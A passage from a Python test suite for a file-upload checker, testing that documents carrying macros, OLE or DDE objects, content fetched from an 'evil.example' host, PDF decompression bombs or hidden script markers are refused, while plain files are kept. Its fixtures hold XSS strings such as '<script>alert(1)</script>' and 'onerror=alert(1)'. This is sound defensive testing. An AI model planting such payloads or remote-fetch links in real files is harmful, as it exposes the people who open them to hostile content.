            '<text:p><text:a xlink:href="macro:///Standard.Module1.Main">Open</text:a></text:p>'
        ),
        "macros or scripts",
    ),
    (
        "run.odt",
        lambda: documents.odt(RUN_PROGRAM),
        "macros or scripts",
    ),
    ("sheet-object.odt", lambda: odf_object(ODF_SHEET), "an embedded object"),
    (
        "ole.odt",
        lambda: documents.odt(
            '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
            parts={"Object 1": CFB},
            entries=(("Object 1", "application/vnd.sun.star.oleobject"),),
        ),
        "embedded or linked object (OLE)",
    ),
    (
        "ole-unreferenced.odt",
        lambda: documents.odt(parts={"Object 2": CFB}),
        "embedded or linked object (OLE)",
    ),
    (
        "dde.odt",
        lambda: documents.odt(ODF_DDE),
        "DDE link",
    ),
    (
        "share-picture.odt",
        lambda: documents.odt(
            '<text:p><draw:frame><draw:image xlink:href="file://evil.example/share/pixel.png"/>'
            "</draw:frame></text:p>"
        ),
        "from outside the file",
    ),
    (
        "remote-section.odt",
        lambda: documents.odt(
            '<text:section text:name="s"><text:section-source '
            'xlink:href="https://evil.example/section.odt"/></text:section>'
        ),
        "from outside the file",
    ),
    (
        "template.odt",
        lambda: documents.odt(parts={"meta.xml": REMOTE_ODF_TEMPLATE}),
        "“https://evil.example/t.ott” from outside the file",
    ),
    (
        "locked.odt",
        lambda: documents.odt(parts={"META-INF/manifest.xml": ENCRYPTED_MANIFEST}),
        "protected by a password",
    ),
    # Text that is a web page from its start
    (
        "page.txt",
        lambda: b"\xef\xbb\xbf  <!DOCTYPE html><html><script>alert(1)</script>",
        "it is a web page, not a Text file",
    ),
]


@pytest.mark.parametrize(
    ("name", "make", "why"), HOSTILE_DOCUMENTS, ids=[name for name, _, _ in HOSTILE_DOCUMENTS]
)
def test_a_document_that_could_carry_code_is_refused_with_its_reason(name, make, why):
    refusal = evidence_refusal(name, make())
    assert refusal and refusal.startswith(f"“{name}” was not added: "), refusal
    assert why in refusal, refusal


KEPT_DOCUMENTS = [
    # pictures and videos from the web, as a page would show them (never from a file server)
    (
        "online-video.pptx",
        lambda: documents.pptx(
            rels=(("video", "https://www.youtube.com/embed/dQw4w9WgXcQ", "External"),)
        ),
    ),
    (
        "web-picture.odt",
        lambda: documents.odt(
            '<text:p><draw:frame><draw:image xlink:href="https://www.maine.gov/logo.png"/>'
            "</draw:frame></text:p>"
        ),
    ),
    ("links.pdf", links_pdf),
    ("plain.pdf", lambda: documents.PDF),
    ("owner-locked.pdf", lambda: encrypted_pdf("")),  # no password to open it: read as any
    # bytes a browser would sniff as a page only at a file's start, in compressed data
    (
        "binary.pdf",
        lambda: documents.pdf(
            b"<< /Length 24 >>\nstream\n<svg\x00<a href\x00<b>\x00<p>\x00<!--\x00\nendstream",
            pad=9000,
        ),
    ),
    ("late-svg.jpg", lambda: after_8_kib(JPEG_HEAD, b"<svg\x00<a href=\x00")),
    (
        "plain.docx",
        lambda: documents.docx(
            settings_rels=(
                (
                    "attachedTemplate",
                    "file:///C:\\Users\\teacher\\AppData\\Roaming\\Microsoft\\Templates"
                    "\\Letterhead.dotx",
                    "External",
                ),
            )
        ),
    ),
    ("chart.docx", lambda: chart_docx(documents.xlsx())),
    (
        "fields.docx",
        lambda: documents.docx(
            word_field("begin", " PAGE ", "separate", "end"),
            '<w:p><w:fldSimple w:instr="HYPERLINK https://www.maine.gov/"/></w:p>',
        ),
    ),
    ("plain.xlsx", documents.xlsx),
    ("plain.pptx", lambda: documents.pptx(SLIDE_JUMP)),
    ("plain.odt", documents.odt),
    ("chart.odt", lambda: odf_object(ODF_CHART)),
    ("lesson.md", lambda: b"# Lesson 3\n\nWrite `<script>alert(1)</script>` and see it run.\n"),
    ("notes.csv", lambda: b"Topic,Example\nEvents,<img src=x onerror=alert(1)>\n"),
]


@pytest.mark.parametrize(("name", "make"), KEPT_DOCUMENTS, ids=[n for n, _ in KEPT_DOCUMENTS])
def test_a_plain_document_is_kept(name, make):
    assert evidence_refusal(name, make()) is None


def test_a_pdf_object_stream_that_unpacks_to_hundreds_of_megabytes_is_refused_at_once():
    data = bomb_pdf(300)
    assert len(data) < MiB
    started = time.perf_counter()
    refusal = evidence_refusal("bomb.pdf", data)
    assert refusal and "unpack to far more than the file holds" in refusal
    assert time.perf_counter() - started < 3
    assert evidence_refusal("small.pdf", bomb_pdf(1)) is None  # the same shape, plain


def test_a_pdf_with_too_many_objects_is_refused(monkeypatch):
    """Before they are read when the file declares them; once qpdf has read them when it
    hides how many it holds (its /Size says fewer)."""
    import pikepdf

    from evidence import pdfs

    monkeypatch.setattr(pdfs, "MAX_OBJECTS", 5)
    many = documents.pdf(*[b"<< /N %d >>" % n for n in range(5)])
    with monkeypatch.context() as reading:
        reading.setattr(pikepdf.Pdf, "objects", property(lambda pdf: pytest.fail("read")))
        refusal = evidence_refusal("many.pdf", many)
    assert refusal and "more than 5 objects to check" in refusal
    assert b"/Size 10 " in many
    hiding = many.replace(b"/Size 10 ", b"/Size 3  ")
    refusal = evidence_refusal("hiding.pdf", hiding)
    assert refusal and "more than 5 objects to check" in refusal
    assert evidence_refusal("few.pdf", documents.pdf()) is None


def test_an_office_document_whose_text_is_too_large_to_check_is_refused(monkeypatch):
    from evidence import office

    monkeypatch.setattr(office, "MAX_XML_READ", 64 * 1024)
    long = documents.docx(*["<w:p><w:r><w:t>Walkthrough notes</w:t></w:r></w:p>"] * 2000)
    refusal = evidence_refusal("long.docx", long)
    assert refusal and "too large to check" in refusal
    assert evidence_refusal("short.docx", documents.docx()) is None


def test_a_marker_cut_by_the_end_of_a_chunk_is_found(monkeypatch):
    """The file is read a chunk at a time; what a chunk's end cuts is found in the next."""
    from evidence import uploads

    monkeypatch.setattr(uploads, "CHUNK", 16 * 1024)
    marker = b"<img src=x" + b" " * 150 + b"onerror=alert(1)>"
    for cut in (1, 10, 100, len(marker) - 1):
        data = JPEG_HEAD + b"\x00" * (3 * 16 * 1024 - len(JPEG_HEAD) - cut) + marker
        refusal = evidence_refusal("photo.jpg", data)
        assert refusal and "another kind of file at once" in refusal, cut
